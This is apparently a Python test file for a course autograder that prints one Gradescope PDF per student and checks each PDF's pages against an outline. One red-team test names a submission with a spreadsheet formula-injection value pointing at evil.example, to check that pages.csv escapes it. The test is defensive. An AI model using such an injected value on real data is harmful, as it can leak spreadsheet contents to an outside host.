"""Hand-graded answers as one PDF per student for Gradescope, through the real commands:
    python -m autograder SUBMISSIONS --assignment 00_toy --out OUT
    course pdfs OUT --assignment 00_toy
on two submissions of the toy assignment whose manual answer draws a figure (one drawn by the
grader at plt.show(), one saved in the notebook for a skipped cell). Checked: one PDF each, the
cover page and a page per manual question, each with the student's figure and text in it
(read back from the HTML Chromium printed and from the PDF's image objects), pages.csv.
Then a class whose plots and outputs run over a page (07_my_transformer, written as `course grade`
leaves it): every PDF has each question on the pages outline.csv gives, each checked by the image
that opens the answer, and a PDF that is not laid out so is named in pages.csv.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import browser
import hostile
import pytest
from test_grade_lms import saved_png, with_answer

from instructor import gradescope_pdf

REPO = Path(__file__).resolve().parents[2]
pytestmark = [pytest.mark.e2e, browser.needed]
ALICE, CAROL = "alicesmith_10101_20001_00_toy.ipynb", "leecarol_10303_20003_00_toy.ipynb"


@pytest.fixture(autouse=True)
def _browser():
    browser.check()


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, *args], capture_output=True, text=True, timeout=600,
                          cwd=REPO, env=dict(os.environ, OMP_NUM_THREADS="1"))


def test_one_pdf_per_student_with_a_page_per_manual_question_and_its_figure(tmp_path, monkeypatch):
    os.chmod(tmp_path, 0o755)
    subs = tmp_path / "class"
    subs.mkdir()
    (subs / ALICE).write_bytes(with_answer("The loss falls fast, then flattens.", "plt.show()"))
    (subs / CAROL).write_bytes(with_answer("See the saved plot.", "plt.show()", skipped_png=saved_png()))
    out = tmp_path / "out"
    res = run("-m", "autograder", str(subs), "--assignment", str(hostile.FIXTURE), "--out", str(out),
              "--workers", "1", "--no-progress")
    assert res.returncode == 0, res.stdout[-2000:] + res.stderr[-2000:]

    pages = []                                     # keep the HTML Chromium printed, to read it back
    real = gradescope_pdf.print_pdf

    def keep(chromium, page, pdf, profile, timeout=120):
        pages.append(page.read_text(encoding="utf-8"))
        real(chromium, page, pdf, profile, timeout)
    monkeypatch.setattr(gradescope_pdf, "print_pdf", keep)
    assert gradescope_pdf.main([str(out), "--assignment", str(hostile.FIXTURE)]) == 0

    dest = out / "gradescope_pdfs"
    rows = {r["file"]: r for r in csv.DictReader((dest / "pages.csv").open(encoding="utf-8"))}
    assert set(rows) == {ALICE, CAROL}
    manual_questions = 1                           # the toy's q4
    for file, text in zip(sorted(rows), pages, strict=True):
        pdf = (dest / rows[file]["pdf"]).read_bytes()
        assert pdf.startswith(b"%PDF") and b"/Subtype /Image" in pdf, file
        assert int(rows[file]["pages"]) == 1 + manual_questions
        assert rows[file]["id"] in text and "q4 (1.0 points)" in text
        assert text.count("<img ") == 1 and "data:image/png;base64," in text
    assert "The loss falls fast" in pages[0] and "See the saved plot." in pages[1]
    assert "outputs as saved in the student's notebook" in pages[1]


def test_a_folder_that_is_not_course_grade_output_is_refused(tmp_path):
    res = run("-m", "course", "pdfs", str(tmp_path))
    assert res.returncode == 2 and "not a course grade output folder" in res.stderr


FORMULA = '=HYPERLINK("http:||evil.example|?"&A3,"open me").ipynb'
HEAVY, SLOW = "heavy_10505_20005_00_toy.ipynb", "slow_10606_20006_00_toy.ipynb"


def test_red_team_3_one_students_pdf_never_stops_the_class(tmp_path, monkeypatch):
    """A2: pages.csv is escaped as grades.csv is and no PDF's name starts with a formula character;
    A3: one answer's text is cut at handgrading.ANSWER_CHARS with a note, and a student whose PDF runs
    over its time (here a real Chromium stopped at 0.01 s) is a row of pages.csv, not a traceback
    that leaves the students after it without a PDF. The honest rows grade and print as alone."""
    os.chmod(tmp_path, 0o755)
    subs = tmp_path / "class"
    subs.mkdir()
    (subs / ALICE).write_bytes(with_answer("The loss falls fast, then flattens.", "plt.show()"))
    (subs / CAROL).write_bytes(hostile.BLANK.read_bytes())
    (subs / FORMULA).write_bytes(hostile.BLANK.read_bytes())
    (subs / HEAVY).write_bytes(with_answer("\u0b95" * 20_000, "print('y' * 30_000)"))
    (subs / SLOW).write_bytes(with_answer("Slow to print.", "plt.show()"))
    out = tmp_path / "out"
    res = run("-m", "autograder", str(subs), "--assignment", str(hostile.FIXTURE), "--out", str(out),
              "--workers", "2", "--no-progress")
    assert res.returncode == 0, res.stdout[-2000:] + res.stderr[-2000:]
    grades = {r["file"]: r for r in csv.DictReader((out / "grades.csv").open(encoding="utf-8"))}
    assert [grades[f]["total_points_earned"] for f in (ALICE, CAROL)] == ["5.0", "0.0"]

    pages = {}
    real = gradescope_pdf.print_pdf

    def keep(chromium, page, pdf, profile, timeout=60):
        pages[pdf.name] = page.read_text(encoding="utf-8")
        real(chromium, page, pdf, profile, 0.01 if pdf.name.startswith("slow") else timeout)
    monkeypatch.setattr(gradescope_pdf, "print_pdf", keep)
    assert gradescope_pdf.main([str(out), "--assignment", str(hostile.FIXTURE)]) == 0

    dest = out / "gradescope_pdfs"
    raw = (dest / "pages.csv").read_text(encoding="utf-8")
    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(raw, newline=""))}
    assert set(rows) == {ALICE, CAROL, "'" + FORMULA, HEAVY, SLOW}
    assert rows["'" + FORMULA]["pdf"].startswith("_=HYPERLINK(")
    assert not [p for p in os.listdir(dest) if p.startswith(("=", "+", "-", "@"))]
    assert (rows[SLOW]["pdf"], rows[SLOW]["pages"]) == ("", "0")
    assert rows[SLOW]["grading_status"] == "no PDF: Chromium took over 0 s"
    assert not (dest / "slow_10606_20006_00_toy.pdf").exists()
    for f in (ALICE, CAROL, HEAVY):
        assert (dest / rows[f]["pdf"]).read_bytes().startswith(b"%PDF") and rows[f]["pages"] == "2", f
    heavy = pages[rows[HEAVY]["pdf"]]
    assert heavy.count("\u0b95") == gradescope_pdf.handgrading.ANSWER_CHARS      # the markdown, whole
    assert "y" * 100 not in heavy                                            # the budget is spent
    assert "(cut: 6000 characters more; see the notebook)" in heavy          # what it printed (6000 kept)
    assert "The loss falls fast" in pages[rows[ALICE]["pdf"]]


# A class of 07_my_transformer (eight questions graded by hand, q4 to q11) as `course grade` leaves
# it, written here (results/*.json and the figures) so that each answer's length is chosen: Ben's
# q4 plot and Cy's q8 output run over a page, Dee's q6 prints thousands of lines, Ada's fit.
TRANSFORMER = "07_my_transformer"
EPOCHS = "\n".join(f"epoch {i}: loss {1 / (i + 1):.3f}" for i in range(25))
STEPS = "\n".join(f"step {i}: loss {1 / (i + 1):.4f}" for i in range(70))
SAMPLES = "\n".join(f"sample {i}: the cat sat" for i in range(3000))
TALL = (400, 1400)                                    # px: a tall figure, scaled to fit a page
LONG_CLASS = {"adashort_10101_20001_07_my_transformer.ipynb": {},
              "bentall_10202_20002_07_my_transformer.ipynb": {"q4": (EPOCHS, TALL)},
              "cylong_10303_20003_07_my_transformer.ipynb": {"q8": (STEPS, None)},
              "deeendless_10404_20004_07_my_transformer.ipynb": {"q6": (SAMPLES, None)}}


def png(width: int, height: int, shade: int) -> bytes:
    """A grey PNG of ``width`` x ``height`` pixels."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    rows = (b"\x00" + bytes([shade]) * width) * height
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def marker_width(k: int) -> int:
    """The width of the figure that opens the answer to the k-th question: an image the PDF keeps
    at its size, read back from the page that shows it (Chromium compresses the text)."""
    return 300 + k


def graded_long_class(out: Path, files: list[str] | None = None) -> list[str]:
    """``out`` as `course grade` of LONG_CLASS (or of its ``files``) leaves it; the questions graded
    by hand."""
    asg = gradescope_pdf.load(TRANSFORMER)
    questions = [q.name for q in asg.questions if q.manual]
    (out / "results").mkdir(parents=True)
    (out / "questions.json").write_text(gradescope_pdf.handgrading.questions_json(asg), encoding="utf-8")
    for file in files or LONG_CLASS:
        long, stem = LONG_CLASS[file], Path(file).stem
        (out / "figures" / stem).mkdir(parents=True)
        answers, printed, figures = {}, {}, []
        for k, q in enumerate(questions, 1):
            cell = 10 * k
            answers[q] = {"found": True, "cells": [
                {"cell": cell, "type": "markdown", "source": f"My answer to {q}.", "unanswered": False},
                {"cell": cell + 1, "type": "code", "source": "show()", "skipped": False},
                {"cell": cell + 2, "type": "code", "source": "run()", "skipped": False}]}
            text, size = long.get(q, ("done", None))
            printed[str(cell + 2)] = text
            shown = [(cell + 1, png(marker_width(k), 12, 40))]
            shown += [(cell + 2, png(*size, 120))] if size else []
            for n, (c, data) in enumerate(shown):
                path = f"figures/{stem}/{q}-{n}.png"
                (out / path).write_bytes(data)
                figures.append({"cell": c, "file": path})
        (out / "results" / f"{stem}.json").write_text(json.dumps(
            {"file": file, "grading_status": "ok", "manual_answers": answers, "answer_outputs": printed,
             "figures": figures}), encoding="utf-8")
    return questions


def pages_of(pdf: Path) -> list[list[int]]:
    """The widths of the images on each page of a PDF, in page order: read from the page tree and
    each page's resources (dictionaries Chromium writes uncompressed), not from the named
    destinations `course pdfs` lays the pages out by."""
    data = pdf.read_bytes()
    objects = {int(m[1]): m[2] for m in re.finditer(rb"(\d+) 0 obj\s*<<((?:(?!endobj).)*)", data, re.S)}

    def kids(n: int) -> list[int]:
        body = objects[n]
        if not re.match(rb"\s*/Type\s*/Pages\b", body):
            return [n]
        found = re.search(rb"/Kids\s*\[([^\]]*)\]", body)
        return [page for kid in re.findall(rb"(\d+) 0 R", found[1]) for page in kids(int(kid))]

    root = next(n for n, body in objects.items() if re.match(rb"\s*/Type\s*/Pages\b", body)
                and b"/Parent" not in body)
    widths = []
    for page in kids(root):
        xobjects = re.search(rb"/XObject\s*<<([^>]*)>>", objects[page])
        refs = re.findall(rb"(\d+) 0 R", xobjects[1]) if xobjects else []
        widths.append([int(re.search(rb"/Width (\d+)", objects[int(r)])[1]) for r in refs])
    return widths


def test_answers_that_run_long_get_the_same_pages_in_every_pdf(tmp_path, capsys):
    """Every PDF has each question on the pages outline.csv gives (the class's longest answer
    to each, at most QUESTION_PAGES): a shorter answer is followed by blank pages, Dee's 3000 lines
    are cut there with a note, and pages.csv gives every row's pages per question."""
    out = tmp_path / "out"
    questions = graded_long_class(out)
    assert gradescope_pdf.main([str(out)]) == 0
    said = capsys.readouterr()

    dest = out / "gradescope_pdfs"
    outline = list(csv.DictReader((dest / "outline.csv").open(newline="", encoding="utf-8")))
    assert [(r["question"], r["points"]) for r in outline] == [(q, "2") for q in questions]
    spans = {r["question"]: r["pages"] for r in outline}
    cap = gradescope_pdf.QUESTION_PAGES
    assert spans == {"q4": "2-3", "q5": "4", "q6": f"5-{4 + cap}", "q7": f"{5 + cap}",
                     "q8": f"{6 + cap}-{7 + cap}", "q9": f"{8 + cap}", "q10": f"{9 + cap}",
                     "q11": f"{10 + cap}"}
    total = 10 + cap
    firsts = [int(spans[q].split("-")[0]) for q in questions]
    assert "Gradescope outline (page 1 is the cover): q4 pages 2-3, q5 page 4, " in said.out

    rows = {r["file"]: r for r in csv.DictReader((dest / "pages.csv").open(newline="", encoding="utf-8"))}
    assert set(rows) == set(LONG_CLASS)
    for file, row in rows.items():
        assert row["pages"] == str(total), file
        assert [row[q] for q in questions] == [spans[q] for q in questions], file
        shown = pages_of(dest / row["pdf"])
        assert len(shown) == total, file
        for k, first in enumerate(firsts, 1):                 # each answer opens on its outline page
            assert [n for n, widths in enumerate(shown, 1) if marker_width(k) in widths] == [first], file
    dee = rows["deeendless_10404_20004_07_my_transformer.ipynb"]
    assert dee["note"].startswith(f"q6 cut at {cap} pages (its answer takes ") and "q6 cut at" in said.err
    assert all(not r["note"] for f, r in rows.items() if r is not dee)
    assert "NOT THE OUTLINE'S PAGES" not in said.err


def test_a_pdf_whose_pages_are_not_the_outlines_says_so(tmp_path, monkeypatch, capsys):
    """Each PDF is checked against the outline after it is printed: here Ada's last print gets a
    page more before q5 (as a Chromium that laid her page out otherwise would), and pages.csv and
    the terminal say where her questions are."""
    ada, ben = list(LONG_CLASS)[:2]
    out = tmp_path / "out"
    graded_long_class(out, [ada, ben])
    real = gradescope_pdf.print_pdf

    def one_page_more(chromium, page, pdf, profile, timeout=60):
        if pdf.parent.name == "gradescope_pdfs" and pdf.name.startswith("ada"):
            text = page.read_text(encoding="utf-8")
            page.write_text(text.replace("<section class='page' id='answer-2'>",
                                         "<section class='page'>more</section><section class='page' "
                                         "id='answer-2'>"), encoding="utf-8")
        real(chromium, page, pdf, profile, timeout)
    monkeypatch.setattr(gradescope_pdf, "print_pdf", one_page_more)
    assert gradescope_pdf.main([str(out)]) == 0
    said = capsys.readouterr()
    assert "Gradescope outline (page 1 is the cover): q4 pages 2-3, q5 page 4, q6 page 5, " in said.out
    rows = {r["file"]: r for r in csv.DictReader((out / "gradescope_pdfs" / "pages.csv").open(
        newline="", encoding="utf-8"))}
    wrong = ("NOT THE OUTLINE'S PAGES (q4 on pages 2-4, q5 on page 5, q6 on page 6, q7 on page 7, "
             "q8 on page 8, q9 on page 9, q10 on page 10, q11 on page 11; 11 pages, the outline's 10): "
             "check this PDF before you upload it")
    assert (rows[ada]["pages"], rows[ada]["q5"], rows[ada]["note"]) == ("11", "5", wrong)
    assert f"course pdfs: {ada}: {wrong}" in said.err
    assert (rows[ben]["pages"], rows[ben]["q5"], rows[ben]["note"]) == ("10", "4", "")
